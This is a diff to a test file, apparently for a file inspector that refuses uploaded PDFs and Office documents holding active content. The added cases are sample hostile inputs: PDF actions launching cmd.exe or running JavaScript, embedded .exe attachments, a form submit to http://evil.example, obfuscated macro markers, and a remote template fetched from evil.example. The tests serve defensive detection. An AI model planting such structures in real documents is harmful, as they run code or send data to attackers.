@@ -101,6 +101,10 @@ describe('what is refused', () => {
     for (const action of [
       '<< /S /Launch /F (cmd.exe) >>',
       '<< /S /JavaScript /JS (app.alert(1)) >>',
+      '<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >> >>',
+      '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>',
+      '<< /Type /3D /Subtype /U3D /OnInstantiate 9 0 R >>',
+      '<< /S /SubmitForm /F (http://evil.example) >>',
       '<< /S /J#61va#53cript /JS (app.alert(1)) >>',
       '<< /Type /EmbeddedFile >>',
       '<< /S/GoToE/F(x.pdf) >>',
@@ -211,6 +215,34 @@ describe('what is refused', () => {
     await expect(
       inspect(anOfficeFile('word/document.xml', [{ name: 'word/a.xml', data: latin1('a'), flags: 1 }])),
     ).rejects.toEqual(refusal('encrypted'))
+  })
+
+  test.each([
+    [
+      'a type spelt with numbers',
+      'word/document.xml',
+      '[Content_Types].xml',
+      '<Types a="&#109;acroEnabled"/>',
+    ],
+    [
+      'a related project of another name',
+      'word/document.xml',
+      'word/_rels/document.xml.rels',
+      '<Relationship Type="http://x/vbaProject" Target="foo.xml"/>',
+    ],
+    ['sheets of macros', 'xl/workbook.xml', 'xl/macrosheets/sheet1.xml', '<x/>'],
+    [
+      'a template from elsewhere',
+      'word/document.xml',
+      'word/_rels/settings.xml.rels',
+      '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>',
+    ],
+    ['an embedded object', 'word/document.xml', 'word/embeddings/oleObject1.bin', 'MZ'],
+    ['any other program', 'word/document.xml', 'word/foo.bin', 'MZ'],
+  ])('an office file with %s', async (_, main, name, data) => {
+    const parts = { '[Content_Types].xml': '<Types/>', [main]: '<document/>', [name]: data }
+    const file = aZip(Object.entries(parts).map(([name, data]) => ({ name, data: Buffer.from(data) })))
+    await expect(inspect(file)).rejects.toMatchObject({ code: 'files.macros' })
   })
 
   test('an office file that unpacks to far more than it is', async () => {
